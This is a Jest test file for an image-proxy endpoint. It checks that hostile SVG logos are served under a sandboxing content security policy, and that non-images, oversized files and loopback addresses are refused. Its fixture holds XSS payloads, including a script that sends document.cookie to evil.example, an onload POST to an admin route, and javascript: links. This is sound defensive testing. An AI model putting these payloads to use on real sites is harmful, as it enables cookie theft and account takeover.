/**
 * SVG logos through GET /api/proxy-image: a hostile SVG (script element, event handler,
 * foreignObject with HTML, javascript: link) served by a real HTTP server on 127.0.0.1 comes back
 * as it was, but under headers that let none of it run; anything that is not an image is still
 * refused, and the SSRF guard and the size cap still apply to SVG.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import Fastify, { type FastifyInstance } from 'fastify';
import { installErrorHandling } from '../src/http/errors';
import { imageProxyPlugin } from '../src/network/proxy';
import type { ResolvedAddress } from '../src/net/guard';
import { isSvgDocument, sniffImage } from '../src/net/imageProxy';

jest.setTimeout(30_000);

const HOSTILE_SVG = [
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<!-- a logo -->',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"',
  '     viewBox="0 0 64 64" onload="fetch(\'/api/admin\',{method:\'POST\'})">',
  '  <style>circle { fill: #3ddc84 }</style>',
  '  <script>document.cookie; fetch("https://evil.example/?c=" + document.cookie)</script>',
  '  <circle cx="32" cy="32" r="30"/>',
  '  <foreignObject width="64" height="64">',
  '    <body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body>',
  '  </foreignObject>',
  '  <a xlink:href="javascript:alert(document.domain)"><text x="8" y="40">click</text></a>',
  '  <image href="https://evil.example/track.png"/>',
  '</svg>',
].join('\n');

const SVG_CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";

let upstream: http.Server;
let port = 0;
let hits: string[] = [];
let app: FastifyInstance;
let base = '';

/** Test DNS: cdn.test stands for a public CDN and is answered by the local server. */
async function resolve(host: string): Promise<ResolvedAddress[]> {
  if (host === 'cdn.test') return [{ address: '127.0.0.1', family: 4 }];
  throw new Error('NXDOMAIN');
}

/** Each path answers a body under a Content-Type the proxy must not trust. */
const ROUTES: Record<string, { type: string; body: string | Buffer }> = {
  '/hostile.svg': { type: 'image/svg+xml', body: HOSTILE_SVG },
  // The bytes decide: an SVG sent under a misleading type is still recognised.
  '/mislabelled.svg': { type: 'application/octet-stream', body: HOSTILE_SVG },
  '/page.html': {
    type: 'text/html',
    body: '<!doctype html><html><body><svg xmlns="http://www.w3.org/2000/svg"></svg><script>alert(1)</script></body></html>',
  },
  '/page-as-svg.svg': { type: 'image/svg+xml', body: '<html><script>alert(1)</script><svg></svg></html>' },
  '/data.json': { type: 'application/json', body: '{"svg":"<svg></svg>"}' },
  '/note.txt': { type: 'text/plain', body: 'svg logo goes here' },
  '/entities.svg': {
    type: 'image/svg+xml',
    body: '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
  },
  '/huge.svg': {
    type: 'image/svg+xml',
    body: `<svg xmlns="http://www.w3.org/2000/svg"><!--${'x'.repeat(70 * 1024)}--></svg>`,
  },
};

beforeAll(async () => {
  upstream = http.createServer((req, res) => {
    const url = req.url ?? '';
    hits.push(url);
    const r = ROUTES[url];
    if (!r) return res.writeHead(404).end();
    res.writeHead(200, { 'content-type': r.type }).end(r.body);
  });
  port = await new Promise<number>((ok, fail) => {
    upstream.once('error', fail);
    upstream.listen(0, '127.0.0.1', () => ok((upstream.address() as AddressInfo).port));
  });
  app = Fastify({ logger: false });
  installErrorHandling(app);
  await imageProxyPlugin(app, {
    resolve,
    // Only in this test is loopback a stand-in for the public CDN.
    testAllowAddresses: ['127.0.0.1'],
    testPortFor: () => port,
    maxBytes: 64 * 1024,
    ratePerWindow: 1000,
  });
  base = await app.listen({ port: 0, host: '127.0.0.1' });
});

afterAll(async () => {
  await app?.close();
  upstream?.closeAllConnections();
  await new Promise((r) => upstream?.close(r));
});

beforeEach(() => {
  hits = [];
});

async function proxy(target: string, server = base) {
  const res = await fetch(`${server}/api/proxy-image?url=${encodeURIComponent(target)}`);
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
}

describe('SVG logos', () => {
  it.each(['/hostile.svg', '/mislabelled.svg'])(
    '%s: 200, the SVG as sent, under a sandboxing CSP with nosniff, inline',
    async (path) => {
      const r = await proxy(`http://cdn.test${path}`);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toBe('image/svg+xml');
      expect(r.headers.get('content-security-policy')).toBe(SVG_CSP);
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
      expect(r.headers.get('content-disposition')).toBe('inline');
      expect(r.body.toString('utf8')).toBe(HOSTILE_SVG);
      expect(hits).toEqual([path]);
    },
  );

  it('the cached copy is served with the same headers', async () => {
    await proxy('http://cdn.test/hostile.svg');
    const again = await proxy('http://cdn.test/hostile.svg');
    expect(again.status).toBe(200);
    expect(again.headers.get('content-security-policy')).toBe(SVG_CSP);
    expect(again.headers.get('content-disposition')).toBe('inline');
  });

  it.each([
    ['an HTML page containing an <svg>', '/page.html'],
    ['an HTML page labelled image/svg+xml', '/page-as-svg.svg'],
    ['JSON', '/data.json'],
    ['plain text', '/note.txt'],
    ['an SVG with entity declarations', '/entities.svg'],
  ])('%s is refused with 415 under the locked CSP', async (_name, path) => {
    const r = await proxy(`http://cdn.test${path}`);
    expect(r.status).toBe(415);
    expect(r.headers.get('content-type')).toMatch(/application\/json/);
    expect(r.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('content-disposition')).toBeNull();
    expect(r.body.toString('utf8')).not.toMatch(/script|<svg/);
  });

  it('the size cap applies to SVG', async () => {
    expect((await proxy('http://cdn.test/huge.svg')).status).toBe(413);
  });

  it('the SSRF guard applies to SVG: a loopback address is refused before any request', async () => {
    const guarded = Fastify({ logger: false });
    installErrorHandling(guarded);
    // Same DNS, no test allowance: 127.0.0.1 is what it really is.
    await imageProxyPlugin(guarded, { resolve, testPortFor: () => port });
    const url = await guarded.listen({ port: 0, host: '127.0.0.1' });
    try {
      expect((await proxy('http://cdn.test/hostile.svg', url)).status).toBe(403);
      expect((await proxy(`http://127.0.0.1:${port}/hostile.svg`, url)).status).toBe(400);
      expect(hits).toEqual([]);
    } finally {
      await guarded.close();
    }
  });
});

describe('recognising an SVG document by its bytes', () => {
  const svg = (s: string) => isSvgDocument(Buffer.from(s, 'utf8'));

  it('accepts a bare root, a BOM, the XML declaration, comments and a plain DOCTYPE', () => {
    expect(svg('<svg xmlns="http://www.w3.org/2000/svg"/>')).toBe(true);
    expect(svg('\uFEFF  \n<svg>\n</svg>')).toBe(true);
    expect(svg(HOSTILE_SVG)).toBe(true);
    expect(sniffImage(Buffer.from(HOSTILE_SVG))).toBe('image/svg+xml');
  });

  it('refuses other roots, unterminated prologues and internal DOCTYPE subsets', () => {
    expect(svg('<html><svg></svg></html>')).toBe(false);
    expect(svg('<svgfoo/>')).toBe(false);
    expect(svg('hello <svg/>')).toBe(false);
    expect(svg('<!-- never closed <svg/>')).toBe(false);
    expect(svg('<?xml version="1.0"')).toBe(false);
    expect(svg('<!DOCTYPE svg [<!ENTITY x "y">]><svg/>')).toBe(false);
    expect(svg('')).toBe(false);
    expect(sniffImage(Buffer.from('<html></html>'))).toBeNull();
  });
});
